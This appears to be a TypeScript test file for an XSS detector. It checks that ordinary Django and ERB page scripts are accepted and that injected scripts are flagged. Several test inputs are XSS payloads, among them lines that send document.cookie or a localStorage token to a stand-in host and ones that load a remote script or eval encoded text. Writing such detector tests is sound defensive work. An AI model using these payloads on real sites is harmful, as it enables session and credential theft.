import t from 'tap'
import { ownPageMarkup } from '../../src/insight/page-scripts.ts'
import { defaultDetector } from '../helpers/detector.ts'

const detector = defaultDetector()
const base = { path: '/api/pages', query: '', headers: { host: 'app.test', 'user-agent': 'Mozilla/5.0 Firefox/127.0', 'content-type': 'application/json' }, body: null }
const json = (v: string) => detector.detect({ ...base, body: Buffer.from(JSON.stringify({ template: v })) })
const own = (v: string) => ownPageMarkup(v.toLowerCase())

/** a Django page around some markup */
const django = (markup: string) => `{% extends "helpdesk/base.html" %}{% load i18n %}\n{% block helpdesk_head %}\n${markup}\n{% endblock helpdesk_head %}\n<p>{% trans "Edit followup" %}</p>`
/** an ERB page around some markup */
const erb = (markup: string) => `<div class="hide-when-print">\n  <% if @query.filters.any? %>\n${markup}\n  <% end %>\n  <%= l(:label_filter_plural) %>\n</div>`

t.test("a template page's own scripts and handlers: its behaviour, no attack", async (t) => {
  for (const v of [
    django("<script type=\"text/javascript\">\n  document.addEventListener('DOMContentLoaded', function() {\n    document.querySelectorAll('[data-bs-toggle=\"tooltip\"]').forEach(function(el) { new bootstrap.Tooltip(el); });\n  });\n</script>"),
    django('<script>\n  $(".add_file_field_button").click(function(e) { e.preventDefault(); x++; $(wrapper).append(row); });\n  fetch("/api/tickets/{{ ticket.id }}/seen", { method: "POST" });\n  window.location = "{% url \'helpdesk:home\' %}";\n</script>'),
    erb('<legend onclick="toggleFieldset(this);" class="icon icon-collapsed"><%= sprite_icon("angle-right") %></legend>'),
    erb('<a onclick="event.preventDefault();document.getElementById(\'list-delete-<%= list.id %>\').submit();" class="btn">x</a>'),
    erb('<button onclick="document.getElementById(\'card\').originalContent = document.getElementById(\'card\').innerHTML">x</button>'),
    erb('<svg class="size-5 rounded-full" data-jdenticon-value="<%= user.name %>" width="20" height="20"></svg>'),
    // a script cut by the value's start: its code up to its closing tag
    "  });\n  $('.a-unban<%= revision.author.id %>.unban').bind('ajax:success', function(e){ notyNotification('relax', 3000); });\n</script>\n<td>\n  <% if revision.author %>\n  <%= revision.author.name %>\n  <% end %>\n</td>",
  ]) {
    t.same(json(v), [], v.slice(0, 140))
  }
})

t.test('what an injected script is there for is still read, in a page or not', async (t) => {
  for (const [v, why] of [
    [django('<script>alert(1)</script>'), 'a proof'],
    [django('<script>new Image().src="//x.example/c?"+document.cookie</script>'), 'a cookie sent away'],
    [django('<script>fetch("https://x.example/c", { method: "POST", body: localStorage.token })</script>'), 'another host'],
    [django('<script>setTimeout("ale"+"rt(1)", 9)</script>'), 'a string run as code'],
    [django('<script>location = name</script>'), 'a location from the window'],
    [django('<script>document.body.innerHTML = location.hash.slice(1)</script>'), 'markup written'],
    [django('<script>x = "\\x3cimg src=x onerror=alert(1)\\x3e"</script>'), 'an escape spelling markup'],
    [django('<script src="//x.example/a.js"></script>'), "another host's script"],
    [erb('<img src=x onerror="this.src=\'//x.example/?\'+document.cookie">'), 'a handler sending the cookie'],
    [erb('<a onclick="javascript:eval(atob(\'YWxlcnQoMSk=\'))">x</a>'), 'a handler running text'],
    [erb('<svg onload="toggle(this)"></svg>'), 'an SVG with a handler in its opening (the handler judged, the element read as before)'],
    ['{% set x = "alert(1)" %}\n<div>\n{% if y %}<script>{{ x|safe }}</script>{% endif %}\n</div>', 'a tag inside a script where the value binds the name'],
    ['<% x = "alert(1)" %>\n<div>\n<% if y %><script><%== x %></script><% end %>\n</div>', "ERB's assignment, then the name written in a script"],
    ['{{7*7}}<script>toggle()</script>', 'one line of tags: no page'],
    ['<script>\n  $(".x").popover({ html: true });\n</script>', 'no tags: no page'],
  ] as const) {
    t.ok(json(v).includes('xss'), `${why}: ${v.slice(0, 100)}`)
  }
})

t.test('ownPageMarkup: what it takes out and leaves', async (t) => {
  t.equal(own('<p>\n<script>\n  toggle(1)\n</script>\n</p>'), '<p>\n \n</p>', 'an own script element, blanked')
  t.equal(own('<p onclick="toggle(this)">x</p>'), '<p data-on="">x</p>', 'an own handler, renamed')
  t.equal(own('<p onclick="alert(1)">x</p>'), '<p onclick="alert(1)">x</p>', 'a proof left')
  t.equal(own('<script src="/a.js"></script>'), '<script src="/a.js"></script>', 'a source left to TEMPLATE_SCRIPT_SRC')
  t.equal(own('<script>\n  toggle(1)'), ' ', 'an opening cut by the end: to the end')
  t.equal(own('toggle(1)\n</script><p>'), ' <p>', 'a closing first: a script cut by the start')
  t.equal(own('<svg width="20" height="20"></svg>'), ' ', 'an empty SVG element')
  t.equal(own('<svg width="20" onload="x()"></svg>'), '<svg width="20" data-on=""></svg>', "an SVG's handler judged as a handler, the element kept")
  const many = '<p onclick="toggle(this)">x</p>\n'.repeat(100)
  t.equal(own(many).split('data-on').length - 1, 64, 'at most 64 handlers taken out')
})
